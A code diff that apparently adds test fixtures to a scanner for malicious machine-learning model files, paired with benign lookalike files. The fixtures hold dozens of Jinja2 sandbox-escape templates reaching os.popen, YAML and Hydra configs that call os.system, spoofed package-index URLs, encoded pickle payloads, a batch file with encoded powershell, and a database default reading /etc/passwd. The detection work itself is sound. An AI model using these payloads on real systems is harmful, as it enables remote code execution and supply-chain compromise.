@@ -14,6 +14,8 @@ import tarfile
 import zipfile
 import zlib
 
+import data as tables  # its writer of Parquet
+
 FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures"
 
 CODE = ("MDL100", "MDL101", "MDL102", "MDL103")
@@ -664,6 +666,9 @@ def bad_arrays():
     yield "l0.txt", lgb[:k] + b"9999999 " + lgb[lgb.index(b" ", k) + 1:], ("MDL295",), "a child outside"
     k = lgb.index(b"split_feature=") + 14
     yield "l1.txt", lgb[:k] + b"9999999 " + lgb[lgb.index(b" ", k) + 1:], ("MDL295",), "a feature outside"
+    yield "l2.txt", lgb.replace(b"tree_sizes=", b"tree_sizes=999999", 1), ("MDL295",), "a tree outside"
+    k = lgb.index(b"end of parameters")
+    yield "l3.txt", lgb[:k], ("ENG001",), "cut off in the parameters"
     cbm = (FIXTURES / "array" / "cat.cbm").read_bytes()
     yield "c0.cbm", cbm[:4] + struct.pack("<I", 2**31) + cbm[8:], None, "a lying length"
     yield "c1.cbm", cbm[:8] + b"\xff" * 4 + cbm[12:], None, "a root outside"
@@ -835,13 +840,249 @@ def good_programs():
         yield f, (FIXTURES / "array" / f).read_bytes(), None, "made by the library itself"
 
 
+# ---- more of all of them ----
+
+GLOBALS = [
+    "{% if x in lipsum.__globals__ %}{% endif %}", "{% for a in lipsum.__globals__ %}{% endfor %}",
+    "{% for a in b if lipsum.__globals__ %}{% endfor %}", "{% set x = lipsum.__globals__ %}",
+    "{% macro f(a=lipsum.__globals__) %}{% endmacro %}{{ f() }}",
+    "{% macro f(a) %}{{ caller() }}{% endmacro %}{% call f(lipsum.__globals__) %}{% endcall %}",
+    "{% with a=lipsum.__globals__ %}{% endwith %}", "{% do lipsum.__globals__ %}",
+    "{% print lipsum.__globals__ %}", "{% trans a=lipsum.__globals__ %}{{ a }}{% endtrans %}",
+    "{% autoescape lipsum.__globals__ %}{% endautoescape %}", "{%+ if lipsum.__globals__ %}{%+ endif %}",
+    "{% filter replace(lipsum.__globals__, '') %}x{% endfilter %}", "{{ x[lipsum.__globals__] }}",
+    "{{ {lipsum.__globals__: 1} }}", "{{ x[1:lipsum.__globals__] }}", "{{ x is eq(lipsum.__globals__) }}",
+    "{{ f(*lipsum.__globals__) }}{{ f(**lipsum.__globals__) }}", "{{ not -lipsum.__globals__ }}",
+    "{{ x.__class__.__module__.__class__.__base__ }}",
+    "{{ x.__class__['__name__']['__class__']['__base__'] }}",
+    "{{ x.__class__.__doc__.__init__.__globals__ }}",
+    "{% set c = x.__class__ %}{{ c.__name__ }}{{ c.__base__ }}", "{{ x.__dict__ }}",
+    "{{ messages|tojson|attr('__class__')|attr('__base__') }}",
+    "{{ ''.join(['{0.__class', '__.__mro__}']).format(x) }}", "{{ ('{' ~ '0.__class__.__mro__}').format(x) }}",
+    "{{ '{x.__class__.__mro__}'.format(x=messages) }}",
+    "{{ {'f': '{0.__class__.__mro__}'.format}['f'](x) }}", "{{ (['{0.__class__.__mro__}'.format]|first)(x) }}",
+    "{{ '%(a)s' % {'a': x.__class__.__mro__} }}", "{{ x|batch(2)|map(attribute='__class__.__mro__')|list }}",
+    "{% block a %}{{ self.__init__.__globals__ }}{% endblock %}",
+    "{% set x %}{{ lipsum.__globals__ }}{% endset %}",
+    "{% if a %}{% elif lipsum.__globals__ %}{% else %}{% endif %}",
+    "{% for a in [] %}{% else %}{{ lipsum.__globals__ }}{% endfor %}",
+    "{% set ns.x = lipsum.__globals__ %}", "{% set x, y = lipsum.__globals__, 1 %}",
+    "{% for k, v in ({'__glo': 'bals__'}).items() %}{{ lipsum|attr(k ~ v) }}{% endfor %}",
+    "{% set l = [] %}{% do l.append('__globals__') %}{{ lipsum|attr(l[0]) }}",
+    "{% set l = ['__glo', 'bals__'] %}{{ lipsum|attr(l|sum(start='')) }}",
+    "{{ lipsum|attr('__globals__'|e) }}{{ lipsum|attr('__globals__'|string) }}",
+    "{{ lipsum|attr('__globals__'|safe) }}", "{{ lipsum|attr('%2F__globals__'|urlencode) }}",
+    "{{ lipsum|attr('X'|replace('X', '__globals__')) }}", "{{ lipsum|attr('__globals__'|default('x')) }}",
+    "{{ lipsum|attr(none|default('__globals__')) }}", "{{ lipsum|attr('__globals__' if true else 'x') }}",
+    "{{ lipsum|attr('x' and '__globals__') }}", "{{ lipsum|attr('' or '__globals__') }}",
+    "{{ lipsum|attr(['a', '__globals__']|last) }}", "{{ lipsum|attr(['__globals__']|random) }}",
+    "{{ lipsum|attr('__globals__ x'|truncate(11, true, '')) }}", "{{ lipsum|attr('__globals__ b'|wordwrap(11)) }}",
+    "{{ lipsum|attr(('__globals__',)|min) }}", "{{ lipsum|attr('__globals__'.encode().decode()) }}",
+    "{{ lipsum|attr('__tybonyf__'.translate(t)) }}", "{{ lipsum|attr('__globals__'|indent(0)) }}",
+    "{{ lipsum|attr(('__globals__'|list)|join) }}", "{{ lipsum|attr(('__globals__',)|map('lower')|first) }}",
+    "{{ lipsum|attr(('__glo' 'bals__')) }}", "{{ lipsum|attr('__{}__'.format('globals')) }}",
+    "{{ lipsum|attr(loop.__class__) }}", "{{ cycler('__globals__').next() }}{{ lipsum|attr(cycler('__globals__').next()) }}",
+]
+
+EVIL_TEMPLATE = "{{ lipsum.__globals__.os.popen('id').read() }}"
+
+
+def safetensors(meta):
+    head = dump({"__metadata__": meta, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}})
+    head += b" " * (-len(head) % 8)
+    return struct.pack("<Q", len(head)) + head + bytes(4)
+
+
+def bad_more():
+    for i, text in enumerate(GLOBALS):
+        name, data = carried(i, text)
+        yield name, data, ESCAPE + ("MDL225",), text
+    yield "tokenizer.json", dump({"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []},
+                                  "chat_template": EVIL_TEMPLATE}), ESCAPE, "in tokenizer.json"
+    yield "task.yaml", ("task: x\ndoc_to_text: \"%s\"\n" % EVIL_TEMPLATE).encode(), ESCAPE, "lm-eval"
+    yield "prompt.prompty", ("---\nname: x\n---\nsystem:\n%s\n" % EVIL_TEMPLATE).encode(), ESCAPE, "prompty"
+    yield "mail.html", ("<html><body>%s</body></html>" % EVIL_TEMPLATE).encode(), ESCAPE, "a page"
+    yield "prompt.txt", EVIL_TEMPLATE.encode(), ESCAPE, "a prompt"
+    yield "prompts.jsonl", dump({"prompt": "x", "lc": 1, "type": "constructor", "id": [
+        "langchain_core", "prompts", "PromptTemplate"], "kwargs": {
+        "template": EVIL_TEMPLATE, "template_format": "jinja2"}}) + b"\n", ESCAPE, "in lines"
+    yield "chat.json", dump([{"lc": 1, "type": "constructor", "id": [
+        "langchain_core", "messages", "AIMessage"], "kwargs": {"content": "x", "additional_kwargs": {
+        "x": {"lc": 1, "type": "secret", "id": ["HF_TOKEN"]}}}}]), ("MDL266",), "a secret in a message"
+    yield "tool.json", dump({"lc": 1, "type": "constructor", "id": [
+        "langchain_experimental", "utilities", "python", "PythonREPL"], "kwargs": {}}), CODE, "a REPL"
+    for i, (text, ids) in enumerate((
+            (b"version: 1\nhandlers:\n  h:\n    (): os.system\n    command: id\n", CODE),
+            (b"version: 1\nhandlers:\n  h:\n    '()': subprocess.Popen\n    args: [id]\n", CODE),
+            (b"version: 1\nhandlers:\n  h:\n    class: evil_module.Handler\n", CODE),
+            (b"version: 1\nformatters:\n  f:\n    (): ext://os.system\n", CODE),
+            (b"m:\n  _target_: >-\n    os.system\n  _args_: [id]\n", CODE),
+            (b"m:\n  _target_: \"builtins.\\u0065val\"\n", CODE),
+            (b"m:\n  ? _target_\n  : os.system\n", CODE),
+            (b"m:\n  !!str _target_: !!str os.system\n", CODE),
+            (b"m: &k _target_\nn:\n  *k : os.system\n", CODE + ("MDL254",)),
+            (b"_target_: nemo.collections.asr.models.X\nx:\n  _target_: numpy.load\n", CODE),
+            (b"m:\n  _target_: torch.load\n  f: x.pt\n", CODE),
+            (b"m:\n  _target_: pickle.loads\n", CODE),
+            (b"m:\n  _target_: importlib.import_module\n  name: evil\n", CODE),
+            (b"m:\n  _target_: hydra._internal.utils._locate\n  path: os.system\n", CODE),
+            (b"m:\n  _target_: transformers.AutoModel.from_pretrained\n"
+             b"  pretrained_model_name_or_path: evil/x\n  trust_remote_code: true\n", CODE + ("MDL250",)),
+            (b"model:\n  class_path: os.system\n  init_args: {command: id}\n", CODE),
+            (b"model:\n  class_path: evil.Model\n", CODE))):
+        yield ("config.yaml", "logging.yaml")[i < 4], text, ids, text.decode()
+    for text, ids in (
+            (b"-i https://pypi.org.evil.test/simple\nx\n", "MDL256"),
+            (b"--extra-index-url https://pypi.nvidia.com.evil.test/simple\n", "MDL256"),
+            (b"--extra-index-url https://pypi.org@evil.test/simple\n", "MDL256"),
+            (b"-f https://download.pytorch.org@evil.test/x\n", "MDL256"),
+            (b"--index-url https://user:pw@pypi.org.evil.test/\n", "MDL256"),
+            (b"git+https://github.com/a/b@main-1.0\n", "MDL256"),
+            (b"git+https://u:p@github.com/a/b\n", "MDL256"),
+            (b"https://evil.test/x-1.0-py3-none-any.whl\n", "MDL256"),
+            (b"x@https://evil.test/x.zip\n", "MDL256"),
+            (b"  -r http://evil.test/r.txt\n", "MDL257"),
+            (b"--find-links=http://evil.test/\nnumpy\n", "MDL257"),
+            (b"x @ http://evil.test/x.zip#sha256=\n", ("MDL257", "MDL256")),
+            (b"git+https://github.com/a/b@refs/pull/13/head\n", "MDL256")):
+        yield "requirements.txt", text, ids, text.decode()
+    yield "python_env.yaml", b"python: 3.10\nbuild_dependencies: [pip]\ndependencies:\n- --index-url " \
+        b"http://evil.test/simple\n- -r requirements.txt\n", ("MDL257",), "MLflow's environment"
+    yield "a.yaml", b"m: !apply:os.system [id]\n", CODE, "HyperPyYAML"
+    yield "b.yaml", b"m: !name:os.system\n", CODE, "HyperPyYAML"
+    yield "c.yaml", b"m: !name:evil_module.run\n    x: 1\n", CODE, "HyperPyYAML"
+    yield "model_index.json", dump({"_class_name": "MyPipeline", "_diffusers_version": "0.30",
+                                    "unet": ["my_unet", "Net"]}), CODE, "a module beside"
+    yield "sentence_bert_config.json", dump({"max_seq_length": 3, "model_args": {
+        "trust_remote_code": True}}), ("MDL250",), "sentence-transformers heeds it"
+    yield "tokenizer_config.json", dump({"tokenizer_class": "X", "init_kwargs": {
+        "trust_remote_code": True}}), ("MDL250",), "in what a loader passes on"
+    # values
+    yield "a.json", dump({"a": "data:application/octet-stream;base64," + base64.b64encode(EVIL).decode()}), \
+        PICKLE, "an address of data"
+    yield "b.json", dump({"a": "\n " + base64.encodebytes(EVIL).decode()}), PICKLE, "over lines"
+    yield "c.json", dump({"a": base64.b64encode(gzip.compress(EVIL)).decode()}), PICKLE, "gzip in base64"
+    yield "d.json", dump({"a": base64.urlsafe_b64encode(EVIL).decode().rstrip("=")}), PICKLE, "no padding"
+    yield "e.json", dump({"a": base64.b64encode(EVIL0).decode()}), PICKLE, "protocol 0"
+    yield "f.yaml", b"a: !!binary |\n  " + base64.b64encode(EVIL) + b"\n", PICKLE, "YAML's binary"
+    yield "g.json", dump({"a": zlib.compress(EVIL).hex()}), PICKLE, "zlib in hexadecimal"
+    yield "h.db", database("create table m(k, v)", ("insert into m values(1, ?)", (EVIL.hex(),))), PICKLE, \
+        "hexadecimal in a database"
+    yield "i.msgpack", mp({"opt": {"state": zlib.compress(EVIL).hex()}}), PICKLE, "in MessagePack"
+    yield "j.msgpack", mp([{"name": "x", "blob": EVIL}]), PICKLE, "in a list"
+    yield "k.parquet", tables.parquet([base64.b64encode(EVIL)]), PICKLE, "base64 in a column of bytes"
+    yield "l.parquet", tables.parquet([b"x"], notes=[("x", base64.b64encode(EVIL).decode())]), PICKLE, \
+        "in a note"
+    yield "m.parquet", tables.parquet([b"x"], kind=7, pages=tables.page([b"x"], body=EVIL)), PICKLE, \
+        "values of one length"
+    # programs
+    yield "weights.pth", b"import os; os.system('id')\n", None, "a file of site-packages"
+    yield "model.bin", b"@echo off\r\npowershell -enc AAAA\r\n", None, "a batch file"
+    yield "model.onnx", b"#!/usr/bin/env python3\nPK" + zipped({"__main__.py": "import os"}), None, "a zipapp"
+    yield "model.safetensors", b"<html><script>fetch('http://a.test')</script></html>", None, "a page"
+    yield "model.gguf", b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60), None, "a shortcut"
+    yield "tokenizer.model", b"\x0a\x0e\x0a\x05<unk>\x15\0\0\0\0\x18\x02" + EVIL, None, "a pickle behind"
+    yield "merges.txt", ELF, ("MDL302", "MDL061", "PKG301", "MDL072"), "a program"
+    yield "vocab.json", EVIL, PICKLE, "a pickle"
+    yield "pytorch_model.bin.index.json", dump({"metadata": {}, "weight_map": {
+        "a": "../../../x.bin", "b": "/etc/x.bin"}}), ("MDL104",), "an index that leads outside"
+    # R
+    evil = rcall("system", rstr("id"))
+    yield "a.rds", rds(ri(0x20d, 1, 5) + ri(0x402) + rsym("x") + rprom(evil) + NIL), ("MDL296", "ENG001"), \
+        "a promise in an attribute"
+    yield "b.rds", rds(ri(4, 0) + ri(253) + ri(2) + rprom(evil) + NIL + NIL + NIL), ("MDL296", "ENG001"), \
+        "in an environment"
+    yield "c.rds", rds(ri(238) + NIL + NIL + NIL), None, "ALTREP"
+    yield "d.rds", rds(ri(19, 1) + rcall("function", NIL, evil)), None, "a call of function"
+    yield "e.rds", rds(rvec(rcall("{", rcall("Sys.setenv", rstr("x")), rcall("source", rstr("http://a"))))), \
+        ("MDL297",), "source"
+    # zarr
+    for codec in ("pickle", "numcodecs.pickle", "Pickle"):
+        yield "x/zarr.json", dump({"zarr_format": 3, "node_type": "array", "shape": [1], "data_type": "float32",
+            "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [1]}}, "fill_value": 0,
+            "chunk_key_encoding": {"name": "default"},
+            "codecs": [{"name": "sharding_indexed", "configuration": {"codecs": [{"name": codec}]}}]}), \
+            ("MDL303", "MDL304"), "a codec in a shard"
+    yield ".zmetadata", dump({"zarr_consolidated_format": 1, "metadata": {"a/.zarray": {
+        "zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "order": "C",
+        "fill_value": 0, "filters": [{"id": "pickle"}]}}}), ("MDL303",), "in consolidated metadata"
+    # databases
+    yield "v.db", database("create table m(k)", "create view v as select * from m where k = edit('x')"), \
+        ("MDL330", "MDL331"), "a view that calls edit"
+    yield "w.db", database("create table m(k default (readfile('/etc/passwd')))"), ("MDL330",), "a default"
+
+
+def good_more():
+    honest = {"lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "AIMessage"],
+              "kwargs": {"content": "call system('id') {{ x }}", "additional_kwargs": {}}}
+    yield "chat.json", dump([honest]), None, "an honest message"
+    yield "chat.jsonl", dump(honest) + b"\n", None, "in lines"
+    yield "llm.json", dump({"lc": 1, "type": "constructor", "id": ["langchain", "llms", "openai", "OpenAI"],
+        "kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}), None, "its key"
+    yield "p.json", dump({"lc": 1, "type": "constructor", "id": ["langchain_core", "prompts", "PromptTemplate"],
+        "kwargs": {"template": "Hello {{ name }}", "template_format": "jinja2"}}), None, "an honest template"
+    yield "task.yaml", b"task: arc\ndoc_to_text: \"Question: {{question}}\\nAnswer:\"\n" \
+        b"doc_to_target: \"{{choices.label.index(answerKey)}}\"\nmetric_list:\n- metric: acc\n", None, "lm-eval"
+    yield "ci.yml", b"on: push\njobs:\n  a:\n    runs-on: ${{ matrix.os }}\n    env:\n" \
+        b"      X: ${{ secrets.TOKEN }}\n    steps:\n    - run: echo ${{ github.ref }}\n", None, "a workflow"
+    yield "values.yaml", b"a: '{{ .Values.x | quote }}'\nb: '{{- if .x }}y{{- end }}'\n", None, "Go templates"
+    yield "Modelfile", b"FROM llama3\nTEMPLATE \"\"\"{{ if .System }}{{ .System }}{{ end }}{{ .Prompt }}\"\"\"\n" \
+        b"PARAMETER stop \"<|eot_id|>\"\n", None, "Ollama"
+    yield "page.html", b"<div v-for=\"x in xs\">{{ x.name | upper }} {{ a ? b : c }}</div>", None, "Vue"
+    yield "index.html", b"---\nlayout: page\n---\n{% for p in site.posts %}<a href=\"{{ p.url }}\">" \
+        b"{{ p.title }}</a>{% endfor %}", None, "Jekyll"
+    yield "play.yaml", b"- hosts: all\n  tasks:\n  - name: x\n    debug: msg=\"{{ foo | default('x') }}\"\n", \
+        None, "Ansible"
+    yield "paper.tex", b"\\documentclass{article}\n\\newcommand{\\x}[1]{%\n  {{\\bf #1}}}\n", None, "LaTeX"
+    yield "logging.yaml", b"version: 1\nformatters:\n  f:\n    format: '%(message)s'\nhandlers:\n  h:\n" \
+        b"    class: logging.StreamHandler\n    stream: ext://sys.stdout\nroot: {handlers: [h]}\n", None, "logging"
+    yield "logging.yaml", b"version: 1\nhandlers:\n  h:\n    class: logging.handlers.RotatingFileHandler\n" \
+        b"    filename: x.log\n", None, "logging"
+    yield "x.json", dump({"py/tuple": [1, 2], "a": {"py/set": [1]}, "b": {"py/b64": "aGVsbG8="}}), None, \
+        "jsonpickle of plain data"
+    yield "map.json", dump({"data": base64.b64encode(zlib.compress(b"x" * 300)).decode(), "enc": "base64"}), \
+        None, "a map of tiles"
+    yield "plot.json", dump({"d": base64.b64encode(gzip.compress(b"[1, 2, 3]" * 9)).decode()}), None, "gzip"
+    yield "h.json", dump({"sha": "80049516" + "ab" * 28, "b": "8004" + "00" * 30}), None, "digests"
+    yield "trainer_state.json", dump({"best_metric": None, "epoch": 1.0, "log_history": [{"loss": 1.0}],
+                                      "is_hyper_param_search": False}), None, "a trainer's state"
+    yield "wandb.yaml", b"_wandb:\n  value:\n    cli_version: 0.16\n    code_path: code/train.py\n" \
+        b"trust_remote_code:\n  desc: null\n  value: true\n", None, "wandb"
+    yield "MLproject", b"name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    command: python a.py\n", \
+        None, "MLproject"
+    yield "dvc.yaml", b"stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n    outs: [model.pkl]\n", \
+        None, "DVC"
+    yield "config.json", dump({"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.6.0",
+        "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"], "sample_size": 64,
+        "up_block_types": ["UpBlock2D", "CrossAttnUpBlock2D"]}), None, "a part of a pipeline"
+    yield "model_index.json", dump({"_class_name": "FluxPipeline", "_diffusers_version": "0.30.0.dev0",
+        "scheduler": ["diffusers", "FlowMatchEulerDiscreteScheduler"], "feature_extractor": [None, None],
+        "tokenizer_2": ["transformers", "T5TokenizerFast"], "requires_safety_checker": True}), None, "Flux"
+    yield "hyper.yaml", b"a: !name:speechbrain.nnet.losses.nll_loss\nb: !name:torch.nn.LeakyReLU\n" \
+        b"c: !new:torch.nn.ModuleList [[!ref <a>]]\nd: !apply:speechbrain.utils.seed_everything [1]\n", None, \
+        "SpeechBrain"
+    yield "requirements.txt", b"git+https://github.com/a/b@4f2c7a1\n-e .\n--pre\n--no-binary :all:\nx>=1,<2\n", None, "a short commit"
+    yield "x.xml", b"<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY b '&a;&a;&lt;&#38;'>]><r>&b;&b;</r>", None, "entities"
+    yield "fts.db", database("create virtual table t using fts5(a, content='')", "insert into t(a) values('x')",
+                             "create table e(k text, v blob)", (
+        "insert into e values('system', ?)", (struct.pack("<8f", *range(8)),))), None, "a search"
+    yield "list.msgpack", mp([{"name": "a", "v": 1}, {"name": "b", "v": 2}]), None, "a list of maps"
+    yield "model.safetensors", safetensors({"format": "pt", "chat_template": "{{ messages[0].content }}",
+                                            "modelspec.title": "{{x}}"}), None, "metadata"
+    yield ".gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n*.pkl filter=lfs\n", None, "Git"
+    yield "dataset_infos.json", dump({"default": {"builder_name": "json", "features": {"a": {"_type": "Value"}},
+        "download_checksums": {"https://huggingface.co/x": {"num_bytes": 3}}}}), None, "data sets"
+    yield "lm.rds", gzip.compress(rds(rvec(rcall("~", rsym("y"), rcall("+", rsym("a"), rsym("b"))), rstr("x")))), \
+        None, "a formula"
+
+
 def bad():
     for part in (bad_templates, bad_gguf, bad_yaml, bad_configs, bad_xml, bad_arrays, bad_index,
-                 bad_tables, bad_programs):
+                 bad_tables, bad_programs, bad_more):
         yield from part()
 
 
 def good():
     for part in (good_templates, good_gguf, good_yaml, good_configs, good_xml, good_tables,
-                 good_programs):
+                 good_programs, good_more):
         yield from part()
